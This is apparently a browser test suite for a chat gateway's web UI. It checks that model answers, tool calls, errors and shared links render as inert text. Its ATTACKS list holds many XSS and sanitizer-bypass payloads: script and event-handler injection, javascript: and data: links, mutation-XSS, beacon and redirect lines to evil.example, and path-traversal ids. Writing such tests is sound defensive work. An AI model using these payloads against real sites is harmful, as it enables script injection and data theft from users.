// What a model writes is text: it never becomes markup, runs nothing and loads nothing. And it may be long.

import assert from "node:assert/strict";
import { after, before } from "node:test";
import { pageTest, until } from "./harness/browser.mjs";
import { answered, ask, choose } from "./harness/chat.mjs";
import { startGateway } from "./harness/programs.mjs";
import { startUpstream } from "./harness/servers.mjs";

const ATTACKS = [
  "<script>globalThis.hacked = 1</script>",
  "<img src=x onerror=\"globalThis.hacked = 1\">",
  "<svg/onload=globalThis.hacked=1>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/><form action=https://evil.example><button>x</button></form>",
  "[a](javascript:globalThis.hacked=1)",
  "[a](JaVaScRiPt:globalThis.hacked=1) [b](java\tscript:globalThis.hacked=1) [c](\u0001javascript:globalThis.hacked=1)",
  "[a](data:text/html,<script>parent.hacked=1</script>) [b](vbscript:x) [c](blob:https://evil.example/x) [d](file:///etc/passwd)",
  "[a](<javascript:globalThis.hacked=1>) <javascript:globalThis.hacked=1>",
  "![x](https://evil.example/pixel.png?secret) ![y](javascript:globalThis.hacked=1) ![z](x\"onerror=\"globalThis.hacked=1)",
  "[x](https://evil.example \"\" onmouseover=globalThis.hacked=1)",
  "[x](https://evil.example/\"onmouseover=\"globalThis.hacked=1)",
  "[ask](/v1/streams?model=one&prompt=pay) [ask](//evil.example) [ask](?x) [ask](#watch=st_x)",
  "```html\"><script>globalThis.hacked=1</script>\n</code></pre><script>globalThis.hacked=1</script>\n```",
  "`</code><script>globalThis.hacked=1</script>`",
  "| a | <img src=x onerror=globalThis.hacked=1> |\n|---|---|\n| <svg onload=globalThis.hacked=1> | [x](javascript:globalThis.hacked=1) |",
  "# <img src=x onerror=globalThis.hacked=1>\n> <img src=x onerror=globalThis.hacked=1>\n\n- <img src=x onerror=globalThis.hacked=1>\n- [ ] <b onclick=globalThis.hacked=1>x</b>",
  "&lt;img src=x onerror=globalThis.hacked=1&gt; &#60;script&#62;",
  "<math><mtext></mtext><style><img src=x onerror=globalThis.hacked=1></style></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=globalThis.hacked=1>\">",
  "<a href=\"javascript&colon;globalThis.hacked=1\">x</a> <details ontoggle=globalThis.hacked=1 open>",
  "{{constructor.constructor('globalThis.hacked=1')()}} ${globalThis.hacked=1} <template><script>1</script></template>",
];
const NAMES = new Set("P H4 H5 H6 UL OL LI BLOCKQUOTE HR FIGURE FIGCAPTION PRE CODE SPAN BUTTON svg path DIV TABLE THEAD TBODY TR TH TD STRONG EM DEL BR A INPUT".split(" "));

const started = [];
let upstream, gateway;
before(async () => {
  started.push((upstream = await startUpstream()));
  const one = { targets: [{ upstream: "scripted", model: "one" }] };
  started.push((gateway = await startGateway({ upstreams: { scripted: { wire: "openai-chat", base_url: upstream.url } }, models: { one }, resume: { buffer: "4MiB" } })));
});
after(() => Promise.all(started.map((program) => program.stop())));

/** What is wrong with the elements of the answers; nothing, or a list. */
const problems = (page) => page.evaluate((names) => {
  const found = globalThis.hacked ? ["a script ran"] : [];
  for (const element of document.querySelectorAll(".prose *, .call *, .sources *, .reasoning *, .error *")) {
    if (!element.matches(".call *, .sources *, .reasoning *, .error *") && !names.includes(element.tagName)) found.push(`an element ${element.tagName}`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "style") found.push(`an attribute ${name}=${value}`);
      if (name === "src") found.push(`loads ${value}`);
    }
    const { href } = element;
    if (typeof href === "string" && (!/^(https?|mailto):/.test(href) || new URL(href).origin === location.origin)) found.push(`a link to ${href}`);
    if (element.tagName === "A" && !element.rel.includes("noopener")) found.push("a link that gives its page away");
  }
  return found;
}, [...NAMES]);

pageTest("what a model writes never becomes markup", async ({ open }) => {
  const page = await open(gateway.url);
  await page.evaluate(() => document.addEventListener("securitypolicyviolation", (event) => (globalThis.hacked = event.violatedDirective)));
  await choose(page, "one");
  const all = ATTACKS.join("\n\n");
  // Each alone in pieces, which must not change what it is; all together; and in every other place of an answer.
  for (const attack of [...ATTACKS, all]) {
    upstream.answer("one", (answer) => {
      const middle = Math.floor(attack.length / 2);
      answer.reasoning(attack).text(attack.slice(0, middle)).text(attack.slice(middle)).finish();
    });
    await ask(page, attack);
    await answered(page);
    assert.deepEqual(await problems(page), [], attack);
  }
  upstream.answer("one", (answer) => answer.tool(0, "<img src=x onerror=globalThis.hacked=1>", JSON.stringify({ x: all })).finish("tool_calls"));
  await ask(page, "tool");
  await answered(page);
  upstream.answer("one", (answer) => answer.refuse(400, all));
  await ask(page, "error");
  await page.locator(".answer [role=alert]").waitFor();
  assert.deepEqual(await problems(page), []);
  // After a reload the same answers are drawn at once.
  await page.reload();
  await page.locator(".answer [role=alert]").waitFor();
  await page.getByText("globalThis.hacked").first().waitFor();
  assert.deepEqual(await problems(page), []);
});

pageTest("a shared link shows its question as text", async ({ open }) => {
  const link = `${gateway.url}/#${new URLSearchParams({ watch: "st_x/../../../<img>", question: ATTACKS[1] })}`;
  const page = await open(link, { errors: /40[04]/ });
  await page.locator(".answer [role=alert]").waitFor();
  assert.equal(await page.textContent(".bubble"), ATTACKS[1]);
  assert.equal(await page.locator(".bubble img").count(), 0);
});

pageTest("a link cannot ask a model", async ({ open }) => {
  const before = upstream.requests.length;
  for (const id of ["../streams?model=one&prompt=pay&", "st_a/../../streams?model=one&prompt=pay#", "%2e%2e/streams?model=one&prompt=pay&x="]) {
    const page = await open(`${gateway.url}/#${new URLSearchParams({ watch: id })}`, { errors: /40[04]/ });
    await page.locator(".answer [role=alert]").waitFor();
    // Nor does the client, if a page of others gives it such an id.
    await page.evaluate(async (id) => {
      const { resume } = await import("/sluicegate.js");
      await resume(id).text().catch(() => {});
    }, id);
  }
  assert.equal(upstream.requests.length, before);
});

pageTest("Markdown is drawn as it is meant, however it is cut", async ({ open }) => {
  const page = await open(gateway.url);
  await choose(page, "one");
  const text = [
    "# Title", "", "A **bold** and *slanted* ~~struck~~ `code` with [a link](https://example.org/a?b=c) and https://example.org/x.", "",
    "- one", "- two", "  - inner", "", "3. three", "4. four", "", "> quoted", "", "| a | b |", "|--|:-:|", "| 1 | `2` |", "", "```js", "const a = 1 < 2;", "```", "", "- [x] done", "- [ ] open", "", "---", "snake_case_name 2 * 3 * 4 a\\*b",
  ].join("\n");
  const drawn = [];
  for (const size of [text.length, 7, 1]) {
    upstream.answer("one", (answer) => {
      for (let at = 0; at < text.length; at += size) answer.text(text.slice(at, at + size));
      answer.finish();
    });
    await ask(page, `in pieces of ${size}`);
    drawn.push(await (await answered(page)).locator(".prose").evaluate((element) => element.innerHTML));
  }
  assert.equal(drawn[1], drawn[0]);
  assert.equal(drawn[2], drawn[0]);
  for (const part of ["<h4 data-level=\"1\">Title</h4>", "<strong>bold</strong>", "<em>slanted</em>", "<del>struck</del>", "<code>code</code>", ">a link</a>", ">https://example.org/x</a>.", "<ul><li>one</li><li>two<ul><li>inner</li></ul></li></ul>", "<ol start=\"3\">", "<blockquote><p>quoted</p></blockquote>", "<td class=\"center\"><code>2</code></td>", "const a = 1 &lt; 2;", "<hr>", "snake_case_name 2 * 3 * 4 a*b"]) {
    assert.ok(drawn[0].includes(part), `${part} in ${drawn[0]}`);
  }
});

pageTest("the page stays usable with an answer of one megabyte", async ({ open }) => {
  const page = await open(gateway.url);
  await choose(page, "one");
  const line = "A line of **text** that goes on for a while, with `code` and more.\n";
  const long = `${line.repeat(6000)}\n\n\`\`\`\n${"let x = 1;\n".repeat(50_000)}`;
  upstream.answer("one", (answer) => {
    for (let at = 0; at < long.length; at += 4000) answer.text(long.slice(at, at + 4000));
    answer.text("THE END").finish();
  });
  await ask(page, "At length, please");
  await page.fill("#prompt", "typed meanwhile");
  await until(page, "the end", () => document.querySelector(".answer")?.getAttribute("aria-busy") === "false" && document.querySelector(".prose").textContent.endsWith("THE END"));
  assert.equal(await page.inputValue("#prompt"), "typed meanwhile");
  const { drawn } = await page.evaluate(() => ({ drawn: document.querySelector(".prose code:last-child") && document.querySelector(".prose").textContent.length }));
  assert.ok(drawn > 900_000, `${drawn} characters are drawn`);
});

pageTest("a chat of a thousand turns is restored and goes on", async ({ open }) => {
  const page = await open(gateway.url);
  await choose(page, "one");
  upstream.answer("one", (answer) => answer.text("An **answer**.").finish());
  await ask(page, "The first");
  await answered(page);
  await page.evaluate(() => {
    dispatchEvent(new Event("pagehide"));
    const kept = JSON.parse(sessionStorage.getItem("sluicegate.conversation"));
    const [turn] = kept.turns;
    globalThis.manyTurns = JSON.stringify({ ...kept, turns: Array.from({ length: 1000 }, (_, at) => ({ ...turn, text: `Question ${at}` })) });
    // The page saves once more when it is left; what it saves is replaced after that.
    addEventListener("pagehide", () => sessionStorage.setItem("sluicegate.conversation", globalThis.manyTurns));
  });
  await page.reload();
  await until(page, "all turns", () => document.querySelectorAll(".prose strong").length === 1000);
  await ask(page, "One more");
  await until(page, "the answer", () => document.querySelectorAll(".answer[aria-busy=false]").length === 1001);
  assert.ok(await page.locator(".bubble").last().isVisible());
});

pageTest("the page follows an answer until the person scrolls up", async ({ open }) => {
  const page = await open(gateway.url);
  await choose(page, "one");
  let under;
  const begun = new Promise((resolve) => upstream.answer("one", (answer) => resolve(((under = answer), answer.text("start\n\n".repeat(80))))));
  await ask(page, "Long");
  await begun;
  const atEnd = () => document.querySelectorAll(".prose p").length >= 80 && document.documentElement.scrollHeight - innerHeight - scrollY < 5;
  await until(page, "the end is in view", atEnd);
  await page.mouse.move(600, 300);
  await page.mouse.wheel(0, -400);
  await page.locator("#jump").waitFor();
  const top = await page.evaluate(() => scrollY);
  under.text("more\n\n".repeat(40));
  await until(page, "more text", () => document.querySelectorAll(".prose p").length >= 119);
  assert.equal(await page.evaluate(() => scrollY), top);
  await page.click("#jump");
  await until(page, "the end is in view again", atEnd);
  under.text("last\n\n".repeat(40)).finish();
  await answered(page);
  await until(page, "the end is still in view", atEnd);
});
